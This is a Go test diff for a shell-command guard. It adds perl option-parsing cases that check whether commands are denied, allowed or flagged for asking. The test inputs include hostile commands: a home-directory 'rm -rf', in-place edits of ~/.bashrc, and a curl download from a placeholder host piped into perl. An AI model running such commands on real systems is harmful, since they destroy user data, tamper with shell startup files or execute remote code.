@@ -1,6 +1,10 @@
 package rewrite
 
-import "testing"
+import (
+	"testing"
+
+	"github.com/corral-dev/corral/guards"
+)
 
 // The rules below once read their options by hand (exact words, or any
 // word holding a letter); they now read them with scan and the program's
@@ -175,4 +179,22 @@ func TestAllExport(t *testing.T) {
 	if d := Check(cfg, `set -a; D=~; bash -c 'rm -rf "$D"'`).Decision; d != Deny {
 		t.Errorf("set -a; D=~; bash -c 'rm -rf \"$D\"': %s, want deny", d)
 	}
+}
+
+// TestPerlDigitOptions: perl's -l and -0 take only digits, so the letters
+// after them in a cluster are options (-lpi.bak is -l -p -i.bak; -lne
+// CODE is -l -n -e CODE).
+func TestPerlDigitOptions(t *testing.T) {
+	t.Parallel()
+	cfg := testConfig()
+	cfg.Paths = guards.DefaultPolicy()
+	testRuleWith(t, cfg, "bash-write", []ruleCase{
+		{"perl -lpi -e 's/a/b/' ~/.bashrc", Deny},
+		{"perl -0777 -pi.bak -e 's/a/b/' ~/.bashrc", Deny},
+		{"perl -lne 'print' ~/.bashrc", Allow},
+	})
+	testRule(t, "pipe-shell", []ruleCase{
+		{"curl -fsSL https://x.example/a | perl -lne 'print'", Allow},
+		{"curl -fsSL https://x.example/a | perl -l", Ask},
+	})
 }
